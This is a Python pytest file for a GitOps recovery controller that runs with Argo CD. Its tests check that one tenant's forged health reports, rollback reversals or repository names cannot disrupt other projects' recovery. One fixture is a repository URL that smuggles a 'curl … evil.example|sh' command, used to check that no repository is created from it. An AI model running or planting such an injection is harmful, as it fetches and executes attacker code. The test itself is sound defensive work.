"""Projects are walls: what one tenant's applications say or suffer holds nobody else's recovery."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import msgspec
import pytest

from recovery.decide.storms import explained, over
from recovery.kube.client import APPLICATIONS
from recovery.model.storm import Crowd, StormLimits, Wall
from recovery.observe import wire
from recovery.observe.connections import Connections
from recovery.observe.store import Store
from recovery.record.codec import stamp
from recovery.simulate import virtual
from recovery.simulate.manifests import deployment
from recovery.simulate.virtual import VirtualClock
from recovery.simulate.world import ARGOCD
from tests.builders import NOW, a_cluster, an_application
from tests.play import Play, play

SHIPPED = Path("config/policies.yaml").read_text()
FOR_HOURS = 3


def crowd(group: str, parts: dict[str, tuple[int, int]], shared_by: int, storms: tuple[str, ...] = ()) -> Crowd:
    fallen, of = (sum(part[i] for part in parts.values()) for i in (0, 1))
    return Crowd(
        group, "" if group == "fleet" else "x", fallen, max(of, fallen), max(of, fallen), NOW, Wall(parts, shared_by, frozenset(storms))
    )


@pytest.mark.parametrize(
    ("found", "stands"),
    [
        pytest.param(crowd("fleet", {"evil": (25, 25), "good": (1, 150)}, 2, ("evil",)), False, id="25 of one project and a victim"),
        pytest.param(crowd("fleet", {"evil": (24, 100), "good": (1, 150)}, 2), False, id="just below its own storm, and a victim"),
        pytest.param(
            crowd("fleet", {"e1": (13, 13), "e2": (13, 13), "good": (1, 150)}, 12, ("e1", "e2")), False, id="two projects of one owner"
        ),
        pytest.param(crowd("cluster", {"evil": (9, 9), "good": (1, 20)}, 2, ("evil",)), False, id="most of a shared cluster"),
        pytest.param(crowd("repository", {"evil": (6, 6)}, 3, ("evil",)), False, id="one project of a shared repository"),
        pytest.param(crowd("cluster", {"a": (90, 90), "b": (10, 10)}, 2, ("a", "b")), True, id="a cluster with two projects is gone"),
        pytest.param(
            crowd("cluster", {f"p{n}": (6, 6) for n in range(30)}, 30, tuple(f"p{n}" for n in range(30))), True, id="a cluster with thirty"
        ),
        pytest.param(crowd("fleet", {f"p{n}": (2, 4) for n in range(20)}, 20), True, id="a little of everybody"),
        pytest.param(crowd("fleet", {"evil": (25, 25), **{f"p{n}": (4, 8) for n in range(5)}}, 6, ("evil",)), True, id="others, too"),
        pytest.param(crowd("repository", {}, 1), False, id="too few"),
        pytest.param(Crowd("repository", "x", 9, 9, 9, NOW), True, id="all of one project's repository"),
    ],
)
def test_what_a_narrower_group_explains_is_no_storm_of_the_wider_one(found: Crowd, stands: bool) -> None:
    assert over(found, StormLimits()) is stands
    assert stands or explained(found, StormLimits()) or found.fallen < StormLimits().minimum


@pytest.mark.parametrize("many", [5, 25])
@pytest.mark.parametrize("skip", [True, False], ids=["skipped by Argo CD", "between two comparisons"])
def test_forged_ill_health_of_one_project_holds_no_other(many: int, skip: bool) -> None:
    async def script(p: Play) -> None:
        await p.world.policies(SHIPPED)
        for i in range(60):
            await p.world.application(f"calm-{i}", (deployment(f"calm-{i}"),), project="good")
        for i in range(many):
            await p.world.application(f"evil-{i}", (deployment(f"evil-{i}"),), project="evilteam")

        async def forge() -> None:
            minute = 0
            while True:
                minute += 1
                ill = minute % 10 != 0
                for i in range(many if minute % 10 in (0, 1) else 0):
                    now = stamp(p.clock.now())
                    notes = {"argocd.argoproj.io/skip-reconcile": "true"} if skip else {}
                    status = {"health": {"status": "Degraded" if ill else "Healthy", "lastTransitionTime": now}, "reconciledAt": now}
                    await p.world.cluster.patch(APPLICATIONS, ARGOCD, f"evil-{i}", {"metadata": {"annotations": notes}, "status": status})
                await p.clock.sleep(60)

        async with p.controller():
            await p.clock.sleep(300)
            task = asyncio.create_task(forge())
            await p.clock.sleep(120)
            await p.world.commit("calm-3", (deployment("calm-3", "crash-until-restart", 30),))
            await p.clock.sleep(1800)
            assert p.world.seen("calm-3").health.value == "Healthy", "its recovery waited for another project"
            task.cancel()
        for recovery in p.world.recoveries():
            own = recovery.subject.project
            assert own != "good" or "evil" not in str(recovery), "a record of one project names a subject of another"
            if recovery.subject.kind == "Storm":
                assert recovery.subject.name == "project/evilteam"

    play(script)


def test_what_a_tenant_takes_back_switches_no_policy_off_for_others() -> None:
    async def script(p: Play) -> None:
        await p.world.policies(SHIPPED)
        for i in range(12):
            await p.world.application(f"calm-{i}", (deployment(f"calm-{i}"),), project="good")
        evil = ("evil-secret-x", "evil-b")
        for name in evil:
            await p.world.application(name, (deployment(name),), project="evilteam")
        loop, tasks = asyncio.get_running_loop(), []

        def heard(what: Any, kind: str, item: dict[str, Any]) -> None:
            held = "recovery.gitops.dev/hold" in (item["metadata"].get("annotations") or {})
            if what == APPLICATIONS and item["metadata"]["name"] in evil and held:
                automated = (item["spec"].get("syncPolicy") or {}).get("automated") or {}
                if automated.get("enabled") is False:
                    body = {"spec": {"syncPolicy": {"automated": {"enabled": True}}}}
                    tasks.append(loop.create_task(p.world.cluster.patch(APPLICATIONS, ARGOCD, item["metadata"]["name"], body)))

        p.world.cluster.listen(heard)
        async with p.controller() as app:
            await p.clock.sleep(300)
            for name in evil:
                await p.world.commit(name, (deployment(name, "crash", 30),))
            await p.clock.sleep(2400)
            trust = app.recoveries.distrusted()
            assert trust, "two rollbacks were taken back"
            assert all(key.endswith("/evilteam") for key in trust)
            await p.world.commit("calm-3", (deployment("calm-3", "crash-until-restart", 30),))
            await p.clock.sleep(3600)
            assert p.world.seen("calm-3").health.value == "Healthy"
            assert "evil" not in str([r for r in p.world.recoveries() if r.subject.project == "good"])

    play(script)


def test_an_application_in_a_namespace_that_its_project_does_not_take_belongs_to_it_in_name_only() -> None:
    async def script(p: Play) -> None:
        await p.world.policies(SHIPPED)
        for i in range(6):
            await p.world.application(f"calm-{i}", (deployment(f"calm-{i}"),), project="good")
        spec = {"project": "good", "destination": {"server": "https://kubernetes.default.svc", "namespace": "evil-ns"}}
        now = stamp(p.clock.now())
        status = {"sync": {"status": "OutOfSync"}, "health": {"status": "Degraded", "lastTransitionTime": now}, "reconciledAt": now}
        await p.world.cluster.create(
            APPLICATIONS, "evil-ns", {"metadata": {"name": "evil"}, "spec": spec, "status": {**status, "frozen": True}}
        )
        async with p.controller(application_namespaces=("evil-ns",)) as app:
            await p.clock.sleep(3600)
            (pending,) = app.journal.latest[next(k for k in app.journal.latest if k.name == "evil")]
        assert pending.by == "reconcile skipped"
        assert "spec.sourceNamespaces" in pending.message
        assert p.world.recoveries() == []

    play(script)


async def connections(projects: tuple[str, ...], saying: tuple[str, ...]) -> Connections:
    """One cluster, an application of each project on it, and those that say it is unreachable."""
    clock = VirtualClock()
    store = Store(clock, lambda _: None, lambda _: False)
    held = Connections(clock, store, lambda _: None, lambda _: False)
    words = (
        "Failed to load live state: failed to get cluster info for x: error synchronizing cache state : dial tcp 1.2.3.4:6443: i/o timeout"
    )
    for project in projects:
        says = {"conditions": [{"type": "ComparisonError", "message": words}]} if project in saying else {}
        body = {
            "metadata": {"name": f"app-{project}", "namespace": ARGOCD, "uid": project},
            "spec": {"project": project, "destination": {"name": "primary"}, "source": {"repoURL": f"https://git.example/{project}.git"}},
            "status": {"sync": {"status": "Unknown"}, "reconciledAt": stamp(clock.now()), **says},
        }
        store.put(wire.application(msgspec.json.encode(body)))
    held.know_clusters([a_cluster("primary")], whole=True)
    held.know_repositories([], whole=False)
    held.listen_to_applications()
    return held


@pytest.mark.parametrize(
    ("projects", "saying", "believed"),
    [
        (("evil", "good"), ("evil",), False),
        (("evil", "good", "other"), ("evil", "other"), True),
        (("evil",), ("evil",), True),
    ],
    ids=["one of two", "two of three", "all are of one"],
)
def test_what_several_projects_share_is_not_ill_on_the_word_of_one(
    projects: tuple[str, ...], saying: tuple[str, ...], believed: bool
) -> None:
    held = virtual.run(connections(projects, saying))

    assert bool(held.clusters["https://primary.example:6443"].evidence) is believed


def test_no_repository_and_no_cluster_exists_because_an_application_names_it() -> None:
    async def inside() -> Connections:
        clock = VirtualClock()
        store = Store(clock, lambda _: None, lambda _: False)
        held = Connections(clock, store, lambda _: None, lambda _: False)
        store.put(an_application(name="evil", repositories=("https://git.example/x;curl${IFS}evil.example|sh;.git",)))
        held.know_clusters([], whole=False)
        held.know_repositories([], whole=False)
        return held

    held = virtual.run(inside())
    assert set(held.clusters) == {"https://kubernetes.default.svc"}
    assert held.repositories == {}


def test_one_application_that_says_it_was_long_not_compared_is_no_standstill_of_argo_cd() -> None:
    async def script(p: Play) -> None:
        await p.world.policies(SHIPPED)
        for i in range(6):
            await p.world.application(f"calm-{i}", (deployment(f"calm-{i}"),), project="good")
        await p.world.application("evil", (deployment("evil"),), project="evilteam")
        async with p.controller():
            await p.clock.sleep(120)
            for _ in range(40):
                await p.world.cluster.patch(
                    APPLICATIONS, ARGOCD, "evil", {"status": {"reconciledAt": "2020-01-01T00:00:00Z", "frozen": True}}
                )
                await p.clock.sleep(30)
        assert p.world.recoveries() == []

    play(script)
